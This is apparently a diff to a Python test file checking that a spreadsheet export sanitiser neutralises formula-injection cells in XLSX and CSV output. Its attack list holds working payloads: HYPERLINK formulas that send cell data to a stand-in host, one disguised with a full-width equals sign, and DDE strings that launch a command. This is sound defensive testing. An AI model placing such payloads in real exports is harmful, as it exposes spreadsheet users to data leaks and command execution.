@@ -14,7 +14,7 @@ from vendor_support import create_vendor, send, standard_data
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
-    "＝HYPERLINK(\"http://evil.example\")",  # full-width equals sign
+    '＝HYPERLINK("http://evil.example")',  # full-width equals sign
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -34,7 +34,8 @@ def test_defuse_rule(text: str) -> None:
     assert spreadsheets.is_formula_like(text.replace("\x01", ""))
     assert spreadsheets.defuse(text.replace("\x01", "")).startswith("'")
     cell = spreadsheets.xlsx_value(text)
-    assert cell.startswith("'") and "\x01" not in cell
+    assert cell.startswith("'")
+    assert "\x01" not in cell
 
 
 def test_plain_text_and_numbers_stay() -> None:
@@ -77,9 +78,10 @@ async def test_xlsx_export_has_no_formula_anywhere(app: App) -> None:
                 texts.append(cell.value)
                 assert not spreadsheets.is_formula_like(cell.value), cell.value
     header = [c.value for c in next(sheet.iter_rows(max_row=1))]
-    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\") (d0)" in header
-    assert "'＝HYPERLINK(\"http://evil.example\") (d1)" in header
-    assert "'@SUM(A1)" in texts and "'-1+1" in texts
+    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"点我") (d0)' in header
+    assert '\'＝HYPERLINK("http://evil.example") (d1)' in header
+    assert "'@SUM(A1)" in texts
+    assert "'-1+1" in texts
 
 
 async def test_csv_export_has_no_formula_anywhere(app: App) -> None:
@@ -89,7 +91,7 @@ async def test_csv_export_has_no_formula_anywhere(app: App) -> None:
     assert len(rows) == 2
     for value in rows[0] + rows[1]:
         assert not spreadsheets.is_formula_like(value), value
-    assert "'＝HYPERLINK(\"http://evil.example\") (d1)" in rows[0]
+    assert '\'＝HYPERLINK("http://evil.example") (d1)' in rows[0]
     assert "'+cmd|' /C calc'!A0 (d2)" in rows[0]
-    assert "'＝HYPERLINK(\"http://evil\")" in rows[1]
+    assert '\'＝HYPERLINK("http://evil")' in rows[1]
     assert "'=1+1" in rows[1]
